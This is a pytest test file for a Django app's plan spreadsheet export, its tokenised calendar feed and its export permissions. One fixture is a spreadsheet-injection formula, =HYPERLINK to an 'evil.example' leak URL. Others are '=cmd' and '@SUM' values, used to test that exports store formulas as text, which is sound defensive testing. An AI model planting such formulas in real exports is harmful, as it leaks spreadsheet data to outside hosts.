"""The plan as a spreadsheet and as a calendar feed, and who may export."""
import io
from datetime import date, datetime, timedelta

import pytest
from django.urls import reverse
from icalendar import Calendar
from openpyxl import load_workbook

from programmes.exports import PLAN_HEADERS
from programmes.models import Membership, Milestone
from tests.conftest import CAST, ROLE_USERNAMES
from tests.factories import DecisionFactory, MilestoneFactory, UserFactory, WorkstreamFactory

MEMBERS = list(ROLE_USERNAMES.values())
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def plan(cast):
    programme = cast.programme
    programme.name = "Home Care Insourcing"
    programme.transfer_date = date(2026, 10, 1)
    programme.save()
    programme.contracts.update(end_date=date(2026, 9, 30), transfer_date=date(2026, 10, 1))
    cast.milestone.baseline_date = date(2026, 5, 1)
    cast.milestone.forecast_date = date(2026, 5, 11)
    cast.milestone.save()
    formula_ws = WorkstreamFactory(programme=programme, name="+Finance")
    MilestoneFactory(programme=programme, workstream=formula_ws, title=HYPERLINK,
                     baseline_date=date(2026, 6, 1), notes="@SUM(1+1)")
    MilestoneFactory(programme=programme, workstream=cast.workstream, title="Staff told of the transfer",
                     baseline_date=date(2026, 3, 1), actual_date=date(2026, 3, 3),
                     status=Milestone.Status.COMPLETE, owner=UserFactory(first_name="=cmd", last_name="Owner"))
    DecisionFactory(programme=programme, body="Cabinet", title="Approve the transfer",
                    meeting_date=date(2026, 7, 15))
    DecisionFactory(programme=programme, body="Scrutiny", title="Not a key decision",
                    meeting_date=date(2026, 7, 1), key_decision=False)
    return programme


# The spreadsheet ---------------------------------------------------------------------

def _workbook(response):
    return load_workbook(io.BytesIO(response.content))


def test_the_spreadsheet_has_one_row_per_milestone_and_derived_date(plan, cast):
    response = cast.client("pm").get(reverse("programmes:plan_xlsx", args=[plan.slug]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith(f'attachment; filename="{plan.slug}-plan-')
    wb = _workbook(response)
    assert wb.sheetnames == ["Plan", "Programme"]
    ws = wb["Plan"]
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == PLAN_HEADERS
    assert PLAN_HEADERS[:3] == ["Workstream", "Milestone", "Owner"]
    body = rows[1:]
    # Three milestones; the contract's ELI deadline and its two TUPE reg. 13 dates; the forward
    # plan date of the one key decision; and each decision's agenda inspection date.
    assert len(body) == 3 + 3 + 1 + 2
    titles = [r[1] for r in body]
    assert "Consultation" in titles and "Staff told of the transfer" in titles
    assert f"TUPE Employee Liability Information due: {plan.contracts.get().title}" in titles
    assert "Publish on forward plan: Cabinet, Approve the transfer" in titles
    assert not any("forward plan" in str(t) and "Not a key decision" in str(t) for t in titles)
    # In forecast date order.
    forecasts = [r[4] for r in body]
    assert forecasts == sorted(forecasts)

    consultation = body[titles.index("Consultation")]
    assert consultation[0] == "HR"
    assert consultation[3] == datetime(2026, 5, 1)
    assert consultation[4] == datetime(2026, 5, 11)
    assert consultation[6] == 10
    assert consultation[7] == "Not started"

    eli = body[titles.index(f"TUPE Employee Liability Information due: {plan.contracts.get().title}")]
    assert eli[4] == datetime(2026, 9, 3)
    assert eli[7] == "Derived"
    assert eli[10].startswith("28 days before staff transfer under it on 1 October 2026 (TUPE 2006 reg. 11)")
    facts = dict(wb["Programme"].iter_rows(min_row=2, values_only=True))
    assert facts["Programme"] == "Home Care Insourcing"
    assert facts["First ELI deadline"] == datetime(2026, 9, 3)


def test_the_spreadsheet_writes_formulas_as_text(plan, cast):
    ws = _workbook(cast.client("pm").get(reverse("programmes:plan_xlsx", args=[plan.slug])))["Plan"]
    cells = {c.value: c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    title = cells["'" + HYPERLINK]
    assert title.data_type == "s"
    assert "'+Finance" in cells and "'@SUM(1+1)" in cells
    assert any(v.startswith("'=cmd") for v in cells)
    # Nothing anywhere in the workbook is a formula.
    for sheet in _workbook(cast.client("pm").get(reverse("programmes:plan_xlsx", args=[plan.slug]))):
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)


# The calendar feed -------------------------------------------------------------------

def _token(client, programme, action: str):
    """Press a calendar feed button; the feed's URL (shown once, on the page the member is
    sent back to) is kept on the response as `feed_url`."""
    response = client.post(reverse("programmes:calendar_token", args=[programme.slug]), {"action": action})
    response.feed_url = None
    if response.status_code == 302 and action != "revoke":
        page = client.get(response["Location"])
        if page.context and page.context.get("feed_url"):
            response.feed_url = page.context["feed_url"].removeprefix("http://testserver")
    return response


def _has_feed(cast, who: str) -> bool:
    return Membership.objects.get(programme=cast.programme, user=cast.users[who]).calendar_token_hash is not None


def test_the_calendar_feed_has_every_date(plan, cast, client):
    pm = cast.client("pm")
    assert not _has_feed(cast, "pm")
    response = _token(pm, plan, "create")
    assert response.status_code == 302
    assert response["Location"] == reverse("programmes:exports", args=[plan.slug])
    url = response.feed_url
    assert url
    # Shown once: the page after that names the feed's dates but not its address.
    again = pm.get(reverse("programmes:exports", args=[plan.slug])).content.decode()
    assert url not in again and "Works until" in again

    # The calendar app is not signed in: the token is the credential.
    feed = client.get(url)
    assert feed.status_code == 200
    assert feed["Content-Type"] == "text/calendar; charset=utf-8"
    cal = Calendar.from_ical(feed.content)
    events = cal.walk("VEVENT")
    # Three milestones, the ELI and reg. 13 dates, one forward plan date, two agenda dates and
    # transfer day.
    assert len(events) == 3 + 3 + 1 + 2 + 1
    assert len({str(e["UID"]) for e in events}) == len(events)
    by_summary = {str(e["SUMMARY"]): e for e in events}
    eli = by_summary[f"TUPE Employee Liability Information due: {plan.contracts.get().title}"]
    assert eli.decoded("DTSTART") == date(2026, 9, 3)
    assert by_summary["Transfer day: Home Care Insourcing"].decoded("DTSTART") == date(2026, 10, 1)
    assert by_summary["Consultation [Not started]"].decoded("DTSTART") == date(2026, 5, 11)
    # A completed milestone is shown on the day it was met.
    assert by_summary["Staff told of the transfer [Complete]"].decoded("DTSTART") == date(2026, 3, 3)
    assert by_summary["Publish on forward plan: Cabinet, Approve the transfer"].decoded("DTSTART") == (
        date(2026, 7, 15) - timedelta(days=29))
    for e in events:
        assert e.decoded("DTEND") - e.decoded("DTSTART") == timedelta(days=1)


def test_revoking_the_feed_makes_the_old_address_404(plan, cast, client):
    pm = cast.client("pm")
    url = _token(pm, plan, "create").feed_url
    assert client.get(url).status_code == 200
    _token(pm, plan, "revoke")
    assert not _has_feed(cast, "pm")
    assert client.get(url).status_code == 404
    assert "Create my calendar feed" in pm.get(reverse("programmes:exports", args=[plan.slug])).content.decode()


def test_rotating_the_feed_changes_the_address(plan, cast, client):
    pm = cast.client("pm")
    old = _token(pm, plan, "create").feed_url
    new = _token(pm, plan, "rotate").feed_url
    assert new and new != old
    assert client.get(old).status_code == 404
    assert client.get(new).status_code == 200


def test_a_deactivated_members_feed_stops(plan, cast, client):
    url = _token(cast.client("hr"), plan, "create").feed_url
    cast.users["hr"].is_active = False
    cast.users["hr"].save()
    assert client.get(url).status_code == 404


def test_an_unknown_token_is_404(db, client):
    assert client.get(reverse("programmes:calendar_feed", args=["no-such-token"])).status_code == 404


# Who may export ----------------------------------------------------------------------

@pytest.mark.parametrize("who", MEMBERS)
def test_every_member_can_export(plan, cast, who):
    c = cast.client(who)
    assert c.get(reverse("programmes:exports", args=[plan.slug])).status_code == 200
    assert c.get(reverse("programmes:plan_xlsx", args=[plan.slug])).status_code == 200
    response = _token(c, plan, "create")
    assert response.status_code == 302
    url = response.feed_url
    assert url and c.get(url).status_code == 200


@pytest.mark.parametrize("who", ["outsider", "anonymous"])
def test_others_cannot_export(plan, cast, who):
    assert who in CAST
    c = cast.client(who)
    expected = 404 if who == "outsider" else 302  # anonymous: to the sign-in page
    for response in (
        c.get(reverse("programmes:exports", args=[plan.slug])),
        c.get(reverse("programmes:plan_xlsx", args=[plan.slug])),
        _token(c, plan, "create"),
        c.post(reverse("programmes:plan_pdf", args=[plan.slug])),
    ):
        assert response.status_code == expected
        if who == "anonymous":
            assert response["Location"].startswith(reverse("login"))
    assert not Membership.objects.filter(calendar_token_hash__isnull=False).exists()
